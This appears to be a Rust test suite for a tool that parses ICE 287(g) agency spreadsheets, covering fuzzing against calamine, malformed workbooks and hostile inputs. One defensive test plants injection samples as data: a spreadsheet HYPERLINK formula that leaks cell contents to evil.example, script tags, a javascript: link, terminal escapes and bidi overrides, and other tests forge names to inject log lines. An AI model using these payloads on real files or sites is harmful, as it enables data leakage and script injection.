        (SHEET, "<row r=\"2\"", "<row hidden=\"1\" r=\"2\""),
        (SHEET, "</row>", ""),
        (SHEET, "<c ", "<!-- <c/> --><c "),
        (SHEET, "ref=\"G2\"", "ref=\"G2:H5\""),
        (SHEET, "ref=\"G3\"", "ref=\"G4\""),
        (SHEET, "r:id=\"rId2\"", "r:id=\"rId1\""),
        (SHEET, "r:id=\"rId2\"", "location=\"A1\""),
        (STRINGS, "<si>", "<si/><si>"),
        (STRINGS, "<t xml:space=\"preserve\">", "<t> "),
        (STRINGS, "</t>", " </t>"),
        (STRINGS, "</t></si>", "</t><t>x</t></si>"),
        (STRINGS, "County", "Co_x0041_unty"),
        (STRINGS, "County", "Co&#x75;nty"),
        (STRINGS, "<t xml:space=\"preserve\">", "<r><t>x</t></r><t xml:space=\"preserve\">"),
        (STRINGS, "&amp;", "&"),
        (STYLES, "mm/dd/yyyy", "0.00"),
        (STYLES, "mm/dd/yyyy", "[h]:mm"),
        (STYLES, "numFmtId=\"164\" fontId", "numFmtId=\"14\" fontId"),
        (WORKBOOK, "<sheets>", "<workbookPr date1904=\"true\"/><sheets>"),
        (SHEET_RELS, "TargetMode=\"External\"", ""),
        (SHEET_RELS, "rId1", "rId8"),
    ];
    let (name, from, to) = CHANGES[numbers.below(CHANGES.len())];
    let part = parts.iter_mut().find(|(part, _)| part == name).unwrap();
    let text = String::from_utf8_lossy(&part.1).into_owned();
    let places: Vec<usize> = text.match_indices(from).map(|(at, _)| at).collect();
    if places.is_empty() {
        return;
    }
    let at = places[numbers.below(places.len())];
    part.1 = format!("{}{to}{}", &text[..at], &text[at + from.len()..]).into_bytes();
}

/// Returns a changed workbook.
fn altered(plain: &Parts, numbers: &mut Numbers) -> Parts {
    let mut parts = plain.clone();
    for _ in 0..=numbers.below(3) {
        alter(&mut parts, numbers);
    }
    parts
}

/// Returns the cells and links that we and calamine read differently.
fn differences(ours: &RawList, (cells, links): &(Cells, Cells)) -> Vec<String> {
    let found = listed(ours);
    let header = cells.keys().map(|(row, _)| *row).min().unwrap_or(0);
    // A list may begin in another column than the first.
    let before = cells.keys().find(|(row, _)| *row == header).map_or(0, |(_, column)| column - 1);
    let width = found.headers.len() as u32;
    // The positions of the columns with links; a list need not have both.
    let linked = ["MOA", "ADDENDUM"].map(|name| {
        let at = found.headers.iter().position(|header| header == name);
        at.map_or(0, |at| before + 1 + at as u32)
    });
    let mut mine = Cells::new();
    let mut my_links = Cells::new();
    for row in &found.rows {
        for (column, cell) in (1..).zip(&row.cells) {
            if let Some(cell) = cell.as_ref().filter(|cell| !cell.trim().is_empty()) {
                mine.insert((row.number, column + before), cell.clone());
            }
        }
        for (column, link) in linked.into_iter().zip(&row.links) {
            if let Some(link) = link {
                my_links.insert((row.number, column), link.clone());
            }
        }
    }
    let is_of_list =
        |(row, column): &(u32, u32)| *row > header && (before + 1..=before + width).contains(column);
    let theirs: Cells =
        cells.iter().filter(|(at, _)| is_of_list(at)).map(|(at, text)| (*at, text.clone())).collect();
    let rows: Vec<u32> = found.rows.iter().map(|row| row.number).collect();
    let is_linked = |(row, column): &(u32, u32)| rows.contains(row) && linked.contains(column);
    // To calamine, a place within the workbook is no target.
    let is_inside = |at: &(u32, u32)| my_links.get(at).is_some_and(|link| link.starts_with('#'));
    let their_links: Cells = links
        .iter()
        .filter(|(at, _)| is_linked(at) && !is_inside(at))
        .map(|(at, text)| (*at, text.clone()))
        .collect();
    my_links.retain(|_, link| !link.starts_with('#'));
    let mut said = Vec::new();
    for (mine, theirs) in [(&mine, &theirs), (&my_links, &their_links)] {
        let places: std::collections::BTreeSet<&(u32, u32)> = mine.keys().chain(theirs.keys()).collect();
        // calamine reads a day before the first day as the first day; we read a number.
        let is_before_all = |place: &(u32, u32)| {
            let number = mine.get(place).and_then(|text| text.parse::<f64>().ok());
            number.is_some_and(|number| number < 0.0)
                && theirs.get(place).is_some_and(|day| ["1899-12-31", "1904-01-01"].contains(&day.as_str()))
        };
        let differ = |place: &&(u32, u32)| mine.get(place) != theirs.get(place) && !is_before_all(place);
        for place in places.into_iter().filter(differ) {
            said.push(format!("{place:?}: {:?}, calamine {:?}", mine.get(place), theirs.get(place)));
        }
    }
    said
}

#[test]
fn what_both_accept_calamine_reads_alike() {
    let specs = shipped();
    let plain = parts(&short_list(), &PLAIN);
    let mut numbers = Numbers(0x2870_2026_1130_0001);
    let (mut both, mut refused, mut apart) = (0, 0, Vec::new());
    for round in 0..6_000 {
        let altered = altered(&plain, &mut numbers);
        let bytes = archive_with(&altered, ::zip::CompressionMethod::Stored);
        let ours = read_as(NAME, bytes.clone(), &specs);
        let Ok(ours) = ours else {
            refused += 1;
            continue;
        };
        // To calamine, a number with spaces around it is no number, and then means the first text.
        let sheet = altered.iter().find(|(name, _)| name == SHEET).unwrap();
        if memchr::memmem::find(&sheet.1, b"<v> ").is_some() {
            continue;
        }
        let Some(theirs) = by_calamine(&bytes) else { continue };
        both += 1;
        let said = differences(&ours, &theirs);
        if !said.is_empty() {
            apart.push(format!("round {round}: {}", said[..said.len().min(3)].join("; ")));
        }
    }
    assert!(apart.is_empty(), "{} differ:\n{}", apart.len(), apart[..apart.len().min(20)].join("\n"));
    println!("6000 altered workbooks: {both} read by both, {refused} refused");
    assert!(both > 1_000 && refused > 500, "{both} {refused}");
}

/// calamine reads every cell and link of the real workbooks alike.
#[test]
#[ignore = "needs the real inputs of ../shared"]
fn every_workbook_of_the_archive_calamine_reads_alike() {
    let shared = shared();
    let specs = shipped();
    let (mut alike, mut unread) = (0, 0);
    for folder in ["participating", "pending"] {
        for entry in std::fs::read_dir(shared.join("archive").join(folder)).unwrap() {
            let path = entry.unwrap().path();
            let bytes = std::fs::read(&path).unwrap();
            // Its name says no more than that it is read.
            let Ok(ours) = read_as(NAME, bytes.clone(), &specs) else { continue };
            let Some(theirs) = by_calamine(&bytes) else {
                unread += 1;
                continue;
            };
            let said = differences(&ours, &theirs);
            assert!(said.is_empty(), "{}: {}", path.display(), said[..said.len().min(5)].join("; "));
            alike += 1;
        }
    }
    println!("{alike} workbooks of the archive read alike, {unread} by ours alone");
    assert!(alike > 500 && unread < 20, "{alike} {unread}");
}

/// Reads every file of the folder of odd workbooks: as its list, or refused with its words.
#[test]
#[ignore = "needs the real inputs of ../shared"]
fn every_workbook_of_the_folder_of_faults() {
    let shared = shared();
    let folder = shared.join("faults");
    let specs = shipped();
    let bytes = |path: &str| std::fs::read(folder.join(path)).unwrap_or_else(|e| panic!("{path}: {e}"));
    let seven = listed(&read_as(NAME, bytes("legal/hidden_sheet.xlsx"), &specs).unwrap());
    assert_eq!(seven.rows.len(), 7);
    let cells = |row: usize| {
        seven.rows[row].cells.iter().map(|cell| cell.as_deref().unwrap_or("")).collect::<Vec<_>>()
    };
    assert_eq!(
        cells(1),
        [
            "ARIZONA",
            "Cochise County Sheriff's Office",
            "County",
            "Cochise County",
            "Warrant Service Officer",
            "2020-02-28",
            "link",
            "link"
        ]
    );
    assert_eq!(seven.rows[1].links[0].as_deref(), Some("https://www.ice.gov/doclib/287gMOA/a b&c.pdf"));
    let moved = |rows: u32| {
        let mut list = seven.clone();
        list.rows.iter_mut().for_each(|row| row.number += rows);
        list
    };
    let without_links = |change: fn(&mut ListedRow)| {
        let mut list = seven.clone();
        list.rows.iter_mut().for_each(change);
        list
    };
    let day = |to: fn(&str) -> String| {
        let mut list = seven.clone();
        for row in &mut list.rows {
            row.cells[5] = row.cells[5].as_deref().map(to);
        }
        list
    };
    let typed = |row: &mut ListedRow| {
        for (column, link) in [6, 7].into_iter().zip(&mut row.links) {
            if let Some(link) = link.take() {
                row.cells[column] = Some(link);
            }
        }
    };
    let returned = |mark: &'static str| {
        let mut list = seven.clone();
        for (row, column) in (0..7).flat_map(|row| (0..8).map(move |column| (row, column))) {
            if let Some(text) = list.rows[row].cells[column].as_mut().filter(|_| column != 5) {
                text.push_str(mark);
            }
        }
        list
    };
    let within = |row: &mut ListedRow| row.links = [Some("#Sheet1!A1".to_owned()), None];
    let read: Vec<(&str, Listed)> = vec![
        ("01-whitespace-in-v", seven.clone()),
        ("02-uniqueCount/100M", seven.clone()),
        ("02-uniqueCount/all_counts", seven.clone()),
        ("02-uniqueCount/charref", seven.clone()),
        ("02-uniqueCount/leading_space", seven.clone()),
        ("02-uniqueCount/lower", seven.clone()),
        ("02-uniqueCount/plus", seven.clone()),
        ("02-uniqueCount/single_quotes", seven.clone()),
        ("02-uniqueCount/space_after_eq", seven.clone()),
        ("02-uniqueCount/space_before_eq", seven.clone()),
        ("02-uniqueCount/usize_max", seven.clone()),
        ("03-hyperlink-formula", seven.clone()),
        ("05-legal-refused/comment", seven.clone()),
        ("05-legal-refused/sheetpath_outside", seven.clone()),
        ("05-legal-refused/ss_other", seven.clone()),
        ("05-legal-refused/utf16", seven.clone()),
        ("05-legal-refused/wb_other_name", seven.clone()),
        ("05-legal-refused/zwsp2", seven.clone()),
        ("05-legal-refused/zwsp_headers", seven.clone()),
        ("07-title-row", moved(1)),
        ("legal/backslash.xlsx", seven.clone()),
        ("legal/cdata.xlsx", seven.clone()),
        ("legal/comment.xlsx", seven.clone()),
        ("legal/comment_sst.xlsx", seven.clone()),
        ("legal/date_general.xlsx", day(|text| serial("SIGNED", text).unwrap())),
        ("legal/date_isoTZ.xlsx", day(|text| format!("{text}T00:00:00.000Z"))),
        ("legal/hl_formula.xlsx", seven.clone()),
        ("legal/hl_range.xlsx", without_links(within)),
        ("legal/hl_text.xlsx", without_links(typed)),
        ("legal/latin1.xlsx", seven.clone()),
        ("legal/leadslash.xlsx", seven.clone()),
        ("legal/no_cell_refs.xlsx", without_links(typed)),
        ("legal/no_refs.xlsx", without_links(typed)),
        ("legal/rootrels_missing.xlsx", seven.clone()),
        ("legal/sheetpath_outside.xlsx", seven.clone()),
        ("legal/skiprows2.xlsx", moved(2)),
        ("legal/ss_other_abs.xlsx", seven.clone()),
        ("legal/title_row.xlsx", moved(1)),
        ("legal/utf16.xlsx", seven.clone()),
        ("legal/utf16le_nobom.xlsx", seven.clone()),
        ("legal/v_whitespace.xlsx", seven.clone()),
        ("legal/win1252.xlsx", seven.clone()),
        ("legal/x000D.xlsx", returned("\r")),
        ("legal/x000D_nl.xlsx", returned("\r\n")),
        ("legal/zwsp2.xlsx", seven.clone()),
        ("legal/zwsp_headers.xlsx", seven.clone()),
    ];
    let path = |name: &str| if name.ends_with(".xlsx") { name.to_owned() } else { format!("{name}/{NAME}") };
    for (name, expected) in &read {
        let found =
            read_as(NAME, bytes(&path(name)), &specs).unwrap_or_else(|refusal| panic!("{name}: {refusal}"));
        assert_eq!(&listed(&found), expected, "{name}");
    }
    let ods = read_as(
        "participatingAgencies06062025am.ods",
        bytes("06-folder-silent/participatingAgencies06062025am.ods"),
        &specs,
    );
    assert_eq!(ods.unwrap().rows.len(), 7);
    for (name, words) in [
        ("06-folder-silent/participatingAgencies06062025am.xlsb", "binary .xlsb workbook"),
        ("10-slow/participatingAgencies06062025am.xlsx", "has more than 16384 columns"),
    ] {
        let refusal = read_as(NAME, bytes(name), &specs).unwrap_err().to_string();
        assert!(refusal.contains(words), "{name}: {refusal}");
    }
    for (name, rows) in [
        ("06-folder-silent/ParticipatingEntities-20220218050546.xlsx", 142),
        ("08-hostile-names/participatingAgencies06062025am.xlsx", 28),
        ("09-csv-formula/participatingAgencies06062025am.xlsx", 10),
    ] {
        assert_eq!(read_as(NAME, bytes(name), &specs).unwrap().rows.len(), rows, "{name}");
    }
    // No file is left out.
    let mut known: Vec<String> = read.iter().map(|(name, _)| path(name)).collect();
    known.push("legal/hidden_sheet.xlsx".to_owned());
    for entry in ["06-folder-silent", "08-hostile-names", "09-csv-formula", "10-slow"] {
        let files = std::fs::read_dir(folder.join(entry)).unwrap();
        known.extend(files.map(|file| format!("{entry}/{}", file.unwrap().file_name().to_string_lossy())));
    }
    let mut all = Vec::new();
    let mut open = vec![folder.clone()];
    while let Some(dir) = open.pop() {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                open.push(path);
            } else if path.extension().is_some_and(|ending| ending != "md") {
                all.push(path.strip_prefix(&folder).unwrap().to_string_lossy().into_owned());
            }
        }
    }
    known.sort();
    all.sort();
    assert_eq!(all, known);
}

/// Writes altered workbooks, and what is read of each, for a reader in another language.
#[test]
fn written_for_other_readers() {
    let specs = shipped();
    let folder = Path::new(env!("CARGO_TARGET_TMPDIR")).join("odd");
    drop(std::fs::remove_dir_all(&folder));
    std::fs::create_dir_all(&folder).unwrap();
    let mut numbers = Numbers(0x2870_2026_1130_0002);
    let plain = parts(&short_list(), &PLAIN);
    let inline = parts(&short_list(), &Manner { is_inline: true, prefix: "x:", ..PLAIN });
    let odd = cases().into_iter().map(|(name, parts, _)| (name.to_owned(), parts));
    let made = (0..400)
        .map(|n| (format!("altered {n}"), altered(if n % 4 == 0 { &inline } else { &plain }, &mut numbers)));
    let mut index = Vec::new();
    for (at, (name, parts)) in odd.chain(made).enumerate() {
        let bytes = archive(&parts);
        let Ok(list) = read_as(NAME, bytes.clone(), &specs) else { continue };
        let found = listed(&list);
        let rows: Vec<serde_json::Value> = found
            .rows
            .iter()
            .map(|row| serde_json::json!({ "row": row.number, "cells": row.cells, "links": row.links }))
            .collect();
        let file = format!("{at:04}.xlsx");
        std::fs::write(folder.join(&file), bytes).unwrap();
        index.push(serde_json::json!({ "file": file, "name": name, "headers": found.headers, "rows": rows }));
    }
    assert!(index.len() > 150, "{}", index.len());
    println!("{} workbooks left for other readers in {}", index.len(), folder.display());
    std::fs::write(folder.join("index.json"), serde_json::to_vec(&index).unwrap()).unwrap();
}

fn text(path: &Path) -> &str {
    path.to_str().unwrap()
}

#[test]
fn other_files_of_a_folder_are_said_once_and_do_not_flood() {
    let dir = tempfile::tempdir().unwrap();
    let lists = dir.path().join("lists");
    std::fs::create_dir(&lists).unwrap();
    workbook(&lists.join(NAME), &[BAY]);
    for name in ["a.zip", "participatingAgencies06072025am.xlsx.crdownload", "notes.txt", "photo.jpg"] {
        std::fs::write(lists.join(name), "x").unwrap();
    }
    (0..2_000).for_each(|n| std::fs::write(lists.join(format!("{n}.pdf")), "x").unwrap());
    std::fs::write(
        lists.join("participatingAgencies05052025am.xlsb"),
        archive(&renamed(
            &parts(&short_list(), &PLAIN),
            WORKBOOK,
            "xl/workbook.bin",
            &[(ROOT_RELS, "workbook.xml", "workbook.bin")],
        )),
    )
    .unwrap();
    let out = dir.path().join("out");
    let mut command = assert_cmd::Command::cargo_bin("coverage287").unwrap();
    let done = command.args(["--lists", text(&lists), "--out", text(&out)]).assert().success();
    let log = String::from_utf8_lossy(&done.get_output().stderr).into_owned();
    for words in [
        "a.zip, participatingAgencies06072025am.xlsx.crdownload",
        "2000 .pdf, 1 .jpg, 1 .txt",
        "binary .xlsb workbook",
    ] {
        assert!(log.contains(words), "{words}: {log}");
    }
    assert!(log.lines().count() < 30, "{log}");
    let lists_of = std::fs::read_to_string(out.join("current/run.json")).unwrap();
    assert!(lists_of.contains("participatingAgencies05052025am.xlsb"));

    // Where many files are no lists, only some are named.
    (0..60).for_each(|n| std::fs::write(lists.join(format!("no list {n}.csv")), "a,b\n1,2\n").unwrap());
    let failed = program().args(["--lists", text(&lists), "--out", text(&out)]).assert().code(5);
    let log = String::from_utf8_lossy(&failed.get_output().stderr).into_owned();
    assert!(log.contains("and 41 more"), "{log}");
    assert!(log.lines().filter(|line| line.contains("no list ")).count() < 50, "{log}");
}

#[test]
fn what_a_list_prints_is_data_in_every_output() {
    let dir = tempfile::tempdir().unwrap();
    let mut list = short_list();
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") Sheriff's Office",
        "+1 Miami-Dade County Sheriff's Office",
        "@SUM(1+1) Los Angeles County Sheriff's Office",
        "\u{1b}[31mRed\u{202e} \u{2066}County\u{2069} Police",
        "<script>alert(1)</script> & \"Police\" Department",
    ];
    let counties = [
        ("ALABAMA", "Etowah County"),
        ("FLORIDA", "Miami-Dade County"),
        ("CALIFORNIA", "Los Angeles County"),
        ("FLORIDA", "Bay County"),
        ("TEXAS", "Walker County"),
    ];
    for ((row, name), (state, county)) in list.rows.iter_mut().zip(names).zip(counties) {
        // A spreadsheet program writes what XML cannot hold as _xHHHH_.
        row.cells[0] = Some(state.to_owned());
        row.cells[1] = Some(name.replace('\u{1b}', "_x001B_"));
        row.cells[3] = Some(county.to_owned());
        row.cells[4] = Some("Task Force Model".to_owned());
    }
    list.rows[0].links[0] = Some("http://evil.example/moa.pdf".to_owned());
    list.rows[1].links[0] = Some("javascript:alert(1)".to_owned());
    let path = dir.path().join("participatingAgencies06062025am.xlsx");
    std::fs::write(&path, archive(&parts(&list, &PLAIN))).unwrap();
    let out = dir.path().join("out");
    let page = program().args(["--lists", text(&path), "--out", text(&out)]).assert().success();
    let is_plain = |text: &str| {
        let odd = |c: char| {
            (c.is_control() && c != '\n') || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        };
        assert!(!text.contains(odd), "{:?}", text.chars().find(|c| odd(*c)));
    };
    is_plain(&String::from_utf8_lossy(&page.get_output().stdout));
    is_plain(&String::from_utf8_lossy(&page.get_output().stderr));
    let run = |args: &[&str]| {
        let done = program().args(args).args(["--release", text(&out)]).assert().success();
        String::from_utf8(done.get_output().stdout.clone()).unwrap()
    };
    for args in [
        &["benchmarks", "counties_foreign_born"][..],
        &["explain", "Police"],
        &["--format", "json", "explain", "Police"],
        &["suggest"],
    ] {
        is_plain(&run(args));
    }
    // A text that a spreadsheet program would take for a formula is marked as text in CSV; with --raw it is as printed.
    for (raw, opening) in [(false, "'"), (true, "")] {
        let mut args = vec!["--format", "csv", "benchmarks", "counties_foreign_born", "--rule", "any_local"];
        args.extend(raw.then_some("--raw"));
        let text = run(&args);
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let cells: Vec<String> = reader
            .records()
            .flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            .collect();
        assert!(
            cells.iter().any(|cell| *cell == format!("{opening}+1 Miami-Dade County Sheriff's Office")),
            "{raw}: {text}"
        );
        let is_formula = |cell: &&String| cell.starts_with(['=', '+', '@']) && cell.parse::<f64>().is_err();
        assert_eq!(cells.iter().any(|cell| is_formula(&cell)), raw, "{text}");
    }
    // A link to another host is kept and marked; a link that is no address is dropped.
    let release = |table: &str| {
        let done = dry_run(std::slice::from_ref(&path));
        crate::support::table(&done, table)
    };
    let repairs = release("repairs");
    let rules: Vec<String> =
        (0..repairs.row_count()).map(|at| crate::support::cell(&repairs, "repair_rule", at)).collect();
    assert!(rules.iter().any(|rule| rule == "other_host"), "{rules:?}");
    let listings = release("listings");
    let urls: Vec<String> = (0..5).map(|at| crate::support::cell(&listings, "moa_url", at)).collect();
    assert_eq!(urls[..2], ["http://evil.example/moa.pdf", ""]);
    let names: Vec<String> = (0..5).map(|at| crate::support::cell(&listings, "agency_name", at)).collect();
    assert_eq!(names[3], "[31mRed County Police");
    // The report holds no element that a list wrote.
    let report = std::fs::read_to_string(out.join("current/report.html")).unwrap();
    assert!(!report.contains("<script>alert"), "a list's script is the report's");
    is_plain(&report);
    let lists = program().args(["lists", "--lists", text(&path)]).assert().success();
    is_plain(&String::from_utf8_lossy(&lists.get_output().stdout));
}

#[test]
fn one_hostile_file_stops_no_run_unless_it_was_named_or_is_the_newest() {
    let dir = tempfile::tempdir().unwrap();
    let lists = dir.path().join("lists");
    std::fs::create_dir(&lists).unwrap();
    for (day, signed) in [("0602", "2025-03-01"), ("0604", "2025-03-01"), ("0606", "2025-03-01")] {
        workbook(
            &lists.join(format!("participatingAgencies{day}2025am.xlsx")),
            &[crate::support::Row { signed, ..BAY }],
        );
    }
    let plain = parts(&short_list(), &PLAIN);
    let nonsense = with(&plain, STRINGS, |xml| {
        xml.replace("ALABAMA", "STATE")
            .replace("ARIZONA", "STATE")
            .replace("FLORIDA", "STATE")
            .replace("TEXAS", "STATE")
    });
    let mut hostile: Vec<(&str, Vec<u8>, &str)> = vec![
        ("a header and nonsense", archive(&nonsense), "makes no sense as a list: of 5 rows 0 have a state"),
        (
            "a text that is not there",
            archive(&numbers_as(&plain, "<v>8</v>", "<v>\u{668}</v>")),
            "points to shared text",
        ),
        ("no archive", b"PK\x03\x04 and nothing".to_vec(), "is damaged"),
        ("empty", Vec::new(), "is empty"),
        ("a page", b"<!DOCTYPE html><html>".to_vec(), "is a web page"),
    ];
    // Names of parts and sheets are shown: they neither start a line nor reverse the direction of words.
    let forged = with(&plain, WORKBOOK, |xml| {
        xml.replace("Sheet1", "x&#10; INFO done\u{202e}").replace("rId1", "rId7")
    });
    hostile.push(("a sheet's name", archive(&forged), "x\\n INFO done\\u{202e}"));
    let part = with(&plain, STRINGS, |xml| xml.replace("</sst>", ""));
    let part = part
        .into_iter()
        .map(|(name, xml)| (name.replace("sharedStrings", "x\n INFO done\u{202e}"), xml))
        .collect();
    let part =
        with(&part, WORKBOOK_RELS, |xml| xml.replace("sharedStrings.xml", "x\\u{a} INFO done\\u{202e}.xml"));
    hostile.push(("a part's name", archive(&part), "is damaged"));
    for (what, bytes, words) in hostile {
        let out = dir.path().join("out");
        // As a list of the past it is set aside, and the others count as before.
        let past = lists.join("participatingAgencies06032025am.xlsx");
        std::fs::write(&past, &bytes).unwrap();
        program().args(["--lists", text(&lists), "--out", text(&out)]).assert().success();
        let run: serde_json::Value =
            serde_json::from_slice(&std::fs::read(out.join("current/run.json")).unwrap()).unwrap();
        assert_eq!(
            (run["counts"]["lists_quarantined"].as_u64(), run["counts"]["files_offered"].as_u64()),
            (Some(1), Some(4)),
            "{what}"
        );
        // If a person names the file, it stops the run.
        let named = program()
            .args(["--lists", text(&lists), "--lists", text(&past), "--out", text(&out)])
            .assert()
            .code(5);
        let log = String::from_utf8_lossy(&named.get_output().stderr).into_owned();
        assert!(log.contains(words) && !log.contains(['\u{202e}', '\u{1b}']), "{what}: {log}");
        assert!(!log.lines().any(|line| line.starts_with(" INFO done")), "{what}: {log}");
        // As the newest list it blocks, on a first run too, and the message says the way out.
        std::fs::remove_file(&past).unwrap();
        let newest = lists.join("participatingAgencies06062025pm.xlsx");
        std::fs::write(&newest, &bytes).unwrap();
        for first in [false, true] {
            if first {
                std::fs::remove_dir_all(&out).unwrap();
            }
            let args = ["--lists", text(&lists), "--out", text(&out)];
            let blocked = program().args(args).assert().code(6);
            let log = String::from_utf8_lossy(&blocked.get_output().stderr).into_owned();
            assert!(log.contains(words) && log.contains("--accept newest_list_is_read"), "{what}: {log}");
            assert_eq!(out.join("current").exists(), !first, "{what}");
        }
        let accept = ["--accept", "newest_list_is_read", "--reason", "ICE's server is broken"];
        program().args(["--lists", text(&lists), "--out", text(&out)]).args(accept).assert().success();
        // A list that was accepted once does not block again.
        program().args(["--lists", text(&lists), "--out", text(&out)]).assert().success();
        std::fs::remove_file(&newest).unwrap();
        std::fs::remove_dir_all(&out).unwrap();
    }
}
